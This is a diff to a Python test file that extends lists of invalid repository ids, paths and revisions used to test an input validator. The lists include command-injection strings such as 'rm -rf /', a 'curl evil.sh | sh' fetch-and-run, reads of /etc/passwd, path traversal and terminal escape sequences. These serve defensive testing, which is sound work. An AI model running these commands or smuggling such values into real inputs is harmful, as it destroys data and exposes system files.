@@ -394,9 +394,10 @@ BAD_REPO_IDS = [
     "bad repo; rm -rf /", "org/m; rm -rf ~", "org/m && curl evil.sh | sh", "org/m | cat /etc/passwd", "$(touch /tmp/pwned)",
     "`touch /tmp/pwned`", "org/${HOME}", "org/m > /tmp/out", "org/m\nsecond-line", "org/m\r", "org/m\t", " org/m", "org/m ",
     "__import__('os').system('x')", "org/m');import os;os.system('x')#", 'org/m"', "org/m'", "{org}/{m}", "org/m#frag",
-    "org/m?x=1", "org/m%2F..", "org/../../etc", "../org/m", "org/..", "org/.", "org//m", "org/m/extra", "org/m/",
+    "org/m?x=1", "org/m%2F..", "org/../../etc", "org/..", "org/.", "org//m", "org/m/extra", "org/m/",
     "org/m--x", "org/-m", "-org/m", "org/m.git", "org/m.", "org/" + "m" * 97, "o" * 97 + "/m", "", "org/m\x00", "org/m\x1b[2J",
     "org/m\u202egnp.exe", "org/ｍ", "org/m*", "org/m[0]", "org\\m", "org/m~", "org/m@main", "org/m:latest", "http://evil/m",
+    "org/m\n", "org/m\n\n", "gpt2\n",
 ]
 # Path-like ids (they start like a path): a folder that does not exist, whatever it is made of.
 BAD_PATHS = ["../org/m", "./nope;rm -rf /", "/nonexistent/../../etc", "~no-such-user-xyz/m", "./$(id)"]
@@ -404,7 +405,7 @@ BAD_PATHS = ["../org/m", "./nope;rm -rf /", "/nonexistent/../../etc", "~no-such-
 BAD_REVISIONS = [
     "../../etc", "..", "main/..", "refs/pr/1/../../x", "main..other", "/main", "main/", "main//x", "-main", ".hidden",
     "main;rm -rf /", "$(id)", "`id`", "main branch", "main\n", "ma\x00in", "main~1", "main^", "main:x", "ma?in", "ma*in",
-    "ma[in", "ma\\in", "x.lock", "r" * 300, "main%2F..", "\x1b[2J",
+    "ma[in", "ma\\in", "x.lock", "r" * 300, "main%2F..", "\x1b[2J", "0" * 40 + "\n", "v1.0\n",
 ]
 
 BAD_SIZES = [
